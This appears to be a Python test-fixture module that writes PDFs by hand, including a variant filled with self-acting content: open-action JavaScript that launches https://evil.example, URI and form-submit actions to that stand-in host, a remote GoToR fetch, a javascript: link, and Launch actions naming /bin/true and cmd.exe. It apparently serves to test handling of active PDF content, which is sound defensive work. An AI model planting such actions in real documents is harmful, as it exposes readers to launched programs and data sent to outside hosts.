"""PDFs for tests, written by hand: many pages, and everything in them that would act by itself."""

import io

import pypdf

ALERT = "<< /S /JavaScript /JS (app.alert\\('ran'\\); app.launchURL\\('https://evil.example'\\)) >>"
URI = "<< /S /URI /URI (https://evil.example/opened) >>"
LAUNCH = "<< /S /Launch /F (/bin/true) /Win << /F (cmd.exe) >> >>"
SUBMIT = "<< /S /SubmitForm /F (https://evil.example/form) >>"
PAPER = (612, 792)


def link(action: str, bottom: int, kind: str = "Link") -> str:
    """An annotation 200 points wide."""
    return f"<< /Type /Annot /Subtype /{kind} /Rect [50 {bottom} 250 {bottom + 20}] {action} >>"


ACTING = " ".join(
    (
        link("/A << /S /URI /URI (https://evil.example/clicked) >>", 600),
        link("/A << /S /URI /URI (javascript:alert\\(1\\)) >>", 570),
        link(f"/A {LAUNCH}", 540),
        link(f"/A {ALERT}", 510),
        link("/A << /S /GoToR /F (https://evil.example/other.pdf) /D [0 /Fit] >>", 480),
        link(f"/FT /Btn /T (b) /A {SUBMIT} /AA << /PO {ALERT} /PV {URI} >>", 450, "Widget"),
        link("/Dest [{third} /Fit]", 420),
    )
)


def pdf(pages: int, *, acting: bool = False, words: dict[int, str] | None = None) -> bytes:
    """A PDF whose every page says its number; one that acts has actions wherever they can be."""
    first = 4
    kids = " ".join(f"{first + 2 * index} 0 R" for index in range(pages))
    catalog = "/Type /Catalog /Pages 2 0 R"
    extra = ""
    if acting:
        catalog += f" /OpenAction {ALERT} /AA << /WC {ALERT} /DS {URI} >>"
        catalog += f" /Names << /JavaScript << /Names [(a) {ALERT}] >> >>"
        extra = f" /AA << /O {LAUNCH} /C {URI} >> /Annots [{ACTING}]"
        extra = extra.replace("{third}", f"{first + 4} 0 R")
    objects = [
        f"<< {catalog} >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} /MediaBox [0 0 {PAPER[0]} {PAPER[1]}] >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for number in range(1, pages + 1):
        content = number + first + number - 1
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F 3 0 R >> >>"
            f" /Contents {content} 0 R{extra if number == 1 else ''} >>"
        )
        said = f"Tides of page {number}. {(words or {}).get(number, '')}"
        text = f"BT /F 24 Tf 50 700 Td ({said}) Tj ET"
        objects.append(f"<< /Length {len(text)} >>\nstream\n{text}\nendstream")
    return laid_out(objects)


def laid_out(objects: list[str]) -> bytes:
    """The bytes of a file with these objects, its table of places right."""
    file = io.BytesIO()
    file.write(b"%PDF-1.7\n\x00\n")
    places: list[int] = []
    for number, body in enumerate(objects, 1):
        places.append(file.tell())
        file.write(f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1"))
    table = file.tell()
    file.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    file.write("".join(f"{place:010} 00000 n \n" for place in places).encode())
    end = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n"
    file.write(end.encode())
    return file.getvalue()


def locked(data: bytes) -> bytes:
    """The same, to be opened by its password alone."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(data))
    writer.encrypt("ebb and flow", algorithm="AES-256")
    into = io.BytesIO()
    writer.write(into)
    return into.getvalue()
